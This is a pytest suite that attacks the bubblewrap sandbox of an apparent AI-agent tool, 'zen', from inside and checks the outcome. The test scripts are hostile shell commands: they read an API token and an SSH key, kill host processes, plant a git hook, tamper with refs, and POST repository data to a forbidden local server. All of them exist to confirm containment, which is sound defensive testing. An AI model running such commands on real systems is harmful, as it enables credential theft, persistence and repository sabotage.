"""zen's bubblewrap wall, attacked from inside and judged by what the attack did: processes outside
still alive, files outside unchanged, bytes that did or did not leave. Run as root too (CI runs as
root), where the old sandbox kept every capability and shared the host's pid namespace."""

from __future__ import annotations

import http.server
import os
import signal
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.helpers import make_repo
from zen.adapters import sandbox
from zen.adapters.git import add_worktree, common_dir
from zen.agents.unguarded import sandbox_argv, sandbox_works

OK, WHY = sandbox_works()
pytestmark = pytest.mark.skipif(not OK, reason=f"zen's sandbox cannot run here: {WHY} "
                                "(.ci/run installs bubblewrap and socat)")


class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: list[bytes]

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        self.seen.append(body)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"api-answer")

    do_GET = do_POST

    def log_message(self, *args: object) -> None:
        pass


def _server(addr: str) -> tuple[http.server.ThreadingHTTPServer, list[bytes]]:
    seen: list[bytes] = []
    handler = type("H", (_Recorder,), {"seen": seen})
    srv = http.server.ThreadingHTTPServer((addr, 0), handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv, seen


@pytest.fixture
def job(tmp_path: Path, isolated_env: Path) -> Iterator[dict[str, Path]]:
    repo = make_repo(isolated_env / "src" / "app")
    zen_home = isolated_env / ".zen"
    (zen_home / "control").mkdir(parents=True)
    (zen_home / "control" / "api-token").write_text("TOKEN-OF-ZEN\n")
    (zen_home / "spool" / "new").mkdir(parents=True)
    wt = zen_home / "worktrees" / "job1"
    add_worktree(repo, wt, "zen/job1", "main")
    sibling = zen_home / "worktrees" / "job2"
    add_worktree(repo, sibling, "zen/job2", "main")
    handoff = zen_home / "jobs" / "job1" / "handoff.md"
    handoff.parent.mkdir(parents=True)
    handoff.write_text("orientation\n")
    (isolated_env / ".ssh").mkdir()
    (isolated_env / ".ssh" / "id_ed25519").write_text("SSH-SECRET\n")
    run_dir = tmp_path / "run"
    run_dir.mkdir(mode=0o700)
    yield {"repo": repo, "home": zen_home, "wt": wt, "sibling": sibling, "handoff": handoff,
           "user": isolated_env, "run": run_dir}


def run_inside(job: dict[str, Path], script: str, *, env: dict[str, str] | None = None,
               lane: dict[str, object] | None = None, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    # a model API on a port of its own unless the test names one (the providers' hosts otherwise)
    env = env or {"OPENAI_API_BASE": "http://127.0.0.1:59999/v1"}
    argv = sandbox_argv(["sh", "-c", script], worktree=job["wt"], zen_home=job["home"], handoff=job["handoff"],
                        git_dir=common_dir(job["wt"]), user_home=job["user"], agent="aider",
                        env=env, lane=lane, run_dir=job["run"])
    return subprocess.run(argv, cwd=job["wt"], capture_output=True, text=True, timeout=timeout)


def test_inside_there_is_no_capability_and_no_process_of_the_host(job: dict[str, Path]) -> None:
    r = run_inside(job, "grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status; echo pids $(ls /proc | grep -c '^[0-9]'); "
                        "cat /proc/1/comm")
    lines = r.stdout.split("\n")
    assert all(line.split()[1] == "0000000000000000" for line in lines[:3]), r.stdout + r.stderr
    # its own /proc: pid 1 is the sandbox's init, and only a handful of processes exist
    assert int(lines[3].split()[1]) < 10 and lines[4] == "bwrap", r.stdout


def test_no_process_outside_can_be_signalled_or_read(job: dict[str, Path]) -> None:
    victim = subprocess.Popen(["sleep", "300"])      # stands for the supervisor, or a sibling agent
    try:
        me = os.getpid()
        r = run_inside(job, f"kill -9 {victim.pid}; kill -STOP {me}; kill -9 -1; "
                            f"cat /proc/{victim.pid}/environ; ls /proc/{me}/root/; echo done")
        assert r.stdout.strip().endswith("done"), r.stdout + r.stderr
        time.sleep(0.2)
        assert victim.poll() is None, "a process outside the sandbox was killed from inside"
        with open(f"/proc/{me}/stat") as f:
            assert f.read().split(") ")[1][0] != "T"
    finally:
        victim.send_signal(signal.SIGKILL)
        victim.wait()


def test_zens_home_the_lane_and_the_users_secrets_are_out_of_reach(job: dict[str, Path]) -> None:
    home, repo, wt = job["home"], job["repo"], job["wt"]
    lane_git = repo / ".git"
    heads = subprocess.run(["git", "-C", str(repo), "for-each-ref"], capture_output=True, text=True).stdout
    config = (lane_git / "config").read_text()
    script = f"""
        cat {home}/control/api-token; cat {job['user']}/.ssh/id_ed25519
        echo '{{"prompt": "x"}}' > {home}/spool/new/evil.yaml
        echo 'echo pwned > {job['user']}/pwned' > {lane_git}/hooks/post-checkout; chmod +x {lane_git}/hooks/post-checkout
        git -C {repo} branch -m main old-main; git branch -f zen/job2 HEAD; git config core.bare true
        git -C {job['sibling']} commit --allow-empty -m evil
        echo x > {job['sibling']}/planted.txt; echo x > {repo}/planted.txt
        printf 'gitdir: /tmp/evil\\n' > .git
        cat {job['handoff']} && echo own-work > work.txt && echo finished
    """
    r = run_inside(job, script)
    assert r.stdout.split("\n")[-2:] == ["orientation", "finished"] or "finished" in r.stdout, r.stdout + r.stderr
    assert "TOKEN-OF-ZEN" not in r.stdout and "SSH-SECRET" not in r.stdout
    assert (wt / "work.txt").read_text() == "own-work\n"
    # nothing outside the worktree changed: the spool, the lane's hooks, refs and config, a sibling
    assert list((home / "spool" / "new").iterdir()) == []
    assert not (lane_git / "hooks" / "post-checkout").exists()
    assert subprocess.run(["git", "-C", str(repo), "for-each-ref"], capture_output=True, text=True).stdout == heads
    assert (lane_git / "config").read_text() == config
    assert not (job["sibling"] / "planted.txt").exists() and not (repo / "planted.txt").exists()
    assert (wt / ".git").read_text().startswith("gitdir: ") and "/tmp/evil" not in (wt / ".git").read_text()


def test_only_the_forwarded_api_is_reachable(job: dict[str, Path]) -> None:
    api, api_seen = _server("127.0.0.1")
    other, other_seen = _server("127.0.0.2")      # a second loopback address the lane does not allow
    try:
        env = {"OPENAI_API_BASE": f"http://127.0.0.1:{api.server_address[1]}/v1"}
        script = (f"python3 -c \"import urllib.request as u; print(u.urlopen('http://127.0.0.1:{api.server_address[1]}/v1', "
                  f"data=b'prompt').read().decode())\"; "
                  f"python3 -c \"import urllib.request as u; u.urlopen('http://127.0.0.2:{other.server_address[1]}/', "
                  f"data=open('{job['wt']}/.git').read().encode(), timeout=3)\" 2>/dev/null || echo other-unreachable; "
                  f"getent hosts example.com || echo no-dns")
        r = run_inside(job, script, env=env)
        assert r.stdout.split() == ["api-answer", "other-unreachable", "no-dns"], r.stdout + r.stderr
        assert api_seen == [b"prompt"] and other_seen == []
    finally:
        api.shutdown()
        other.shutdown()


def test_a_lane_host_is_reachable_too_and_the_host_network_is_not(job: dict[str, Path]) -> None:
    allowed, seen = _server("127.0.0.3")
    try:
        port = allowed.server_address[1]
        r = run_inside(job, f"python3 -c \"import urllib.request as u; print(u.urlopen('http://127.0.0.3:{port}/', "
                            f"data=b'x').read().decode())\"", lane={"network": [f"127.0.0.3:{port}"]})
        assert r.stdout.split() == ["api-answer"] and seen == [b"x"], r.stdout + r.stderr
    finally:
        allowed.shutdown()


def test_the_forwarders_end_with_the_sandbox(job: dict[str, Path]) -> None:
    api, _ = _server("127.0.0.1")
    try:
        r = run_inside(job, "true", env={"OPENAI_API_BASE": f"http://127.0.0.1:{api.server_address[1]}"})
        assert r.returncode == 0, r.stderr
        left = subprocess.run(["pgrep", "-f", f"UNIX-LISTEN:{job['run']}"], capture_output=True, text=True)
        assert left.stdout.strip() == "", "a forwarder outlived its sandbox"
    finally:
        api.shutdown()


def test_a_providers_port_443_is_forwarded_with_no_other_capability(job: dict[str, Path]) -> None:
    r = run_inside(job, "grep -E '^CapEff' /proc/self/status; getent hosts api.openai.com", env={"X": "1"})
    cap, host = r.stdout.split("\n")[:2]
    assert int(cap.split()[1], 16) == 1 << 10, r.stdout + r.stderr   # CAP_NET_BIND_SERVICE alone
    assert host.split()[0].startswith("127.0.1."), r.stdout   # the provider's name points at its forward


def test_a_run_dir_someone_else_could_have_made_is_refused(tmp_path: Path) -> None:
    key = f"test-{tmp_path.name}"
    d = sandbox.run_dir_for(key)
    assert d.stat().st_mode & 0o777 == 0o700
    d.chmod(0o755)
    with pytest.raises(PermissionError):
        sandbox.run_dir_for(key)
    d.rmdir()
